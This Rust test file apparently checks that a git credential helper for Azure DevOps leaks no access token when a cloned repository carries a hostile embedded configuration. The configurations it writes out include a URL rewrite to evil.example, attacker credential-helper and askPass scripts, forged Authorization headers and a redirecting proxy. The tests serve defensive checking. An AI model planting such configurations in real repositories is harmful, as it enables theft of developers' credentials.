//! Hostile configuration of the repository itself, as an unpacked archive or a bare repository
//! committed into a clone has it.

use super::{MAIN, URL, Victim, text, urls};
use test_support::fake_azure::FakeAzure;
use test_support::{for_each_git, pat84, write_script};

/// Commits a bare repository with this configuration and clones it. Returns its directory.
fn clone_with_a_bare_repository(victim: &Victim, configuration: &str) -> &'static str {
    let files = [
        ("tools/HEAD", "ref: refs/heads/main\n"),
        ("tools/objects/keep", ""),
        ("tools/refs/keep", ""),
        ("tools/config", configuration),
    ];
    victim.commit(&files.map(|(name, content)| (name.to_owned(), content.to_owned())));
    victim.git_in(".", &["clone", URL, "Web"]).succeeds();
    "Web/tools"
}

/// A program of the attacker's that answers as a helper, or to a prompt, with a PAT of theirs.
fn answering_program(victim: &Victim, name: &str, pat: &str) -> String {
    let path = victim.home.path().join(name);
    let script = format!(
        "#!/bin/sh\necho \"$*\" >>\"$HOME/{name}-ran\"\ncase $1 in\n\
         get) printf 'username=x\\npassword={pat}\\n' ;;\n*Username*) echo x ;;\n\
         *) echo {pat} ;;\nesac\n"
    );
    write_script(&path, &script);
    text(&path).to_owned()
}

const REMOTES: &str = "[core]\n\trepositoryformatversion = 0\n\tbare = true\n\
    [remote \"origin\"]\n\turl = https://dev.azure.com/acme/Fabrikam/_git/Web\n";

/// Fetches from hostile URLs in the repository and runs our commands there, then checks everything.
fn nothing_happens_in(victim: &Victim, directory: &str) {
    let before = victim.belongings();
    let known = [
        URL,
        "https://dev.azure.com/acme-prod/p/_git/r",
        "https://corp.example.com/tfs/Other/p/_git/r",
    ];
    // All of them are tried as submodules.
    for url in urls::all().iter().map(String::as_str).step_by(3).chain(known) {
        victim.git_in(directory, &["ls-remote", url]);
    }
    for _ in 0..2 {
        victim.git_in(directory, &["fetch", "origin"]);
    }
    for command in [&["check", "--all"][..], &["check"], &["doctor"], &["list"], &["header", URL]] {
        victim.azdo_in(directory, command, "");
    }
    victim.azdo_in(directory, &["run", MAIN, "--", "git", "ls-remote", "origin"], "");
    victim.is_unharmed_since(&before);
}

#[test]
fn repository_that_hides_paths_gets_no_pat_and_changes_nothing() {
    for_each_git(|git| {
        let victim = Victim::new(git);
        let hiding = "[credential]\n\tuseHttpPath = false\n\tusername = acme\n\
                      [credential \"https://dev.azure.com\"]\n\tuseHttpPath = false\n\
                      [credential \"https://corp.example.com\"]\n\tuseHttpPath = false\n";
        let directory = clone_with_a_bare_repository(&victim, &format!("{REMOTES}{hiding}"));
        nothing_happens_in(&victim, directory);
    });
}

#[test]
fn programs_of_a_repository_store_no_pat() {
    for_each_git(|git| {
        let victim = Victim::new(git);
        let [_, (_, prod), ..] = urls::of_the_attacker();
        let helper = answering_program(&victim, "their-helper", &prod);
        let askpass = answering_program(&victim, "their-askpass", &prod);
        for programs in [
            format!("[credential]\n\thelper = {helper}\n"),
            format!("[core]\n\taskPass = {askpass}\n"),
        ] {
            let _ = std::fs::remove_dir_all(victim.home.path().join("attacker"));
            let _ = std::fs::remove_dir_all(victim.home.path().join("Web"));
            let directory = clone_with_a_bare_repository(&victim, &format!("{REMOTES}{programs}"));
            nothing_happens_in(&victim, directory);
        }
        for name in ["their-helper-ran", "their-askpass-ran"] {
            assert!(victim.home.path().join(name).exists(), "git did not run it: {name}");
        }
    });
}

#[test]
fn repository_that_rewrites_urls_gets_no_pat_and_changes_nothing() {
    for_each_git(|git| {
        let victim = Victim::new(git);
        let rewriting = "[url \"https://evil.example/\"]\n\tinsteadOf = https://dev.azure.com/\n\
             [url \"https://dev.azure.com/acme/_apis/wit/_git/\"]\n\
             \tinsteadOf = https://corp.example.com/tfs/Main/\n\
             [url \"https://corp.example.com/~mallory/\"]\n\tinsteadOf = https://contoso.\n";
        let directory = clone_with_a_bare_repository(&victim, &format!("{REMOTES}{rewriting}"));
        nothing_happens_in(&victim, directory);
        let login = ["login", "--store", "file", "--with-token"];
        let ran = victim.home.azdo(login).in_dir(victim.home.path().join(directory));
        ran.stdin(pat84(9)).without("GIT_CREDENTIAL_AZDO_VERIFY").run();
        let saw = victim.azure.log().hosts_that_saw(&pat84(9));
        assert!(saw.iter().all(|host| host == "dev.azure.com"), "{saw:?}");
    });
}

#[test]
fn repository_that_sends_its_own_header_rejects_no_pat() {
    for_each_git(|git| {
        for header in [
            "[http]\n\textraHeader = Authorization: Basic eDp5\n",
            "[http]\n\textraHeader = \"Authorization:\"\n",
            "[http]\n\textraHeader = \"authorization: \"\n",
            "[http \"https://acme@dev.azure.com\"]\n\textraHeader = Authorization: Bearer x\n\
             [http \"https://dev.azure.com/acme/\"]\n\textraHeader = Authorization: Bearer x\n",
            // git reads all of these as the same URL.
            "[http \"https://dev.azure.com/%61cme/\"]\n\textraHeader = Authorization: Bearer x\n",
            "[http \"https://dev.azure.com:0443/acme\"]\n\textraHeader = Authorization: Bearer x\n",
            "[http \"https://dev.azure.com/x/../acme/.\"]\n\textraHeader = Authorization: Bearer x\n",
        ] {
            let victim = Victim::new(git);
            let directory = clone_with_a_bare_repository(&victim, &format!("{REMOTES}{header}"));
            let before = victim.belongings();
            for _ in 0..2 {
                let other = "https://dev.azure.com/acme/Fabrikam/_git/Missing";
                victim.git_in(directory, &["ls-remote", "origin"]);
                victim.git_in(directory, &["ls-remote", other]);
            }
            victim.is_unharmed_since(&before);
        }
    });
}

/// With certificates verified, as everyone has it.
#[test]
fn proxy_and_tls_settings_of_a_repository_show_nobody_a_pat() {
    for_each_git(|git| {
        let victim = Victim::new(git);
        let theirs = FakeAzure::start();
        theirs.answer_for_every_host();
        victim.home.git(["config", "--global", "--unset", "http.sslVerify"]).run().succeeds();
        let proxy = theirs.proxy();
        let settings = format!(
            "[http]\n\tproxy = {proxy}\n\tsslBackend = schannel\n\tcurloptResolve = dev.azure.com:443:127.0.0.1\n"
        );
        let without_backend = settings.replace("\tsslBackend = schannel\n", "");
        for settings in [settings, without_backend] {
            let _ = std::fs::remove_dir_all(victim.home.path().join("attacker"));
            let _ = std::fs::remove_dir_all(victim.home.path().join("Web"));
            let directory = clone_with_a_bare_repository(&victim, &format!("{REMOTES}{settings}"));
            nothing_happens_in(&victim, directory);
        }
        for (_, _, seed) in super::PATS {
            let saw = theirs.log().hosts_that_saw(&pat84(seed));
            assert!(saw.is_empty(), "{saw:?}");
        }
    });
}
